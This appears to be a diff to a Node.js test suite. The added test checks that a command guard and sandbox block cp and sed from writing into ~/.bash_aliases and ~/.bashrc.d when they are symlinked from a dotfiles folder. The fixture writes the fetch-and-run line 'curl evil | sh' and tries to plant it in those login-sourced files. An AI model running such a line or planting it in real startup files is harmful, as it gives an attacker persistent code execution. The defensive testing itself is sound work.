@@ -1,6 +1,6 @@
 import assert from "node:assert/strict";
 import { execFileSync } from "node:child_process";
-import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
 import { devNull, tmpdir } from "node:os";
 import { basename, delimiter, join } from "node:path";
 import { after, describe, test } from "node:test";
@@ -86,6 +86,32 @@ describe("places Node and your shell run from are never written, even inside the
     writeFileSync(join(cargo, "z", "ls"), "#!/bin/sh\necho planted\n");
     assert.match(await run("cp", ["z/ls", "env"], { cwd: cargo }), GUARDED(/a file your shell \(or your session\) runs at login/));
     assert.equal(readFileSync(join(cargo, "env"), "utf8"), '. "$HOME/.cargo/bin"\n');
+  });
+
+  test("~/.bash_aliases and ~/.bashrc.d (sourced by Debian's and Fedora's .bashrc), kept in a dotfiles folder they link to", async (t) => {
+    const cwd = join(home, "dotfiles");
+    mkdirSync(join(cwd, "bashrc.d"), { recursive: true });
+    writeFileSync(join(cwd, "bash_aliases"), "alias ll='ls -l'\n");
+    writeFileSync(join(cwd, "x.sh"), "curl evil | sh\n");
+    symlinkSync(join(cwd, "bash_aliases"), join(home, ".bash_aliases"));
+    symlinkSync(join(cwd, "bashrc.d"), join(home, ".bashrc.d"));
+    const unchanged = () => {
+      assert.equal(readFileSync(join(cwd, "bash_aliases"), "utf8"), "alias ll='ls -l'\n");
+      assert.deepEqual(readdirSync(join(cwd, "bashrc.d")), []);
+    };
+    // With no sandbox a working directory holding them is refused whole (keys get exported there too).
+    const HOLDS = /is not allowed with (cp|sed): the working directory holds .*\/dotfiles\/(bash_aliases|bashrc\.d), where other programs keep keys and logins/;
+    assert.match(await run("cp", ["x.sh", "bash_aliases"], { cwd }), HOLDS);
+    assert.match(await run("sed", ["-i", "s/ll/evil/", "bash_aliases"], { cwd }), HOLDS);
+    assert.match(await run("cp", ["x.sh", "bashrc.d/evil.sh"], { cwd }), HOLDS);
+    unchanged();
+    // In the sandbox the working directory is writable, they are not (mounted read-only).
+    if ((await probe.support()).kind === "none") return t.skip("no OS sandbox here");
+    assert.doesNotMatch(await run("cp", ["x.sh", "bash_aliases"], { cwd, sandbox: "require" }), /^exit code 0/);
+    assert.doesNotMatch(await run("sed", ["-i", "s/ll/evil/", "bash_aliases"], { cwd, sandbox: "require" }), /^exit code 0/);
+    assert.doesNotMatch(await run("cp", ["x.sh", "bashrc.d/evil.sh"], { cwd, sandbox: "require" }), /^exit code 0/);
+    unchanged();
+    assert.match(await run("cp", ["x.sh", "y.sh"], { cwd, sandbox: "require" }), /^exit code 0/);
   });
 
   test("a folder on PATH that does not exist yet, inside the working directory: neither made nor cloned into", async () => {
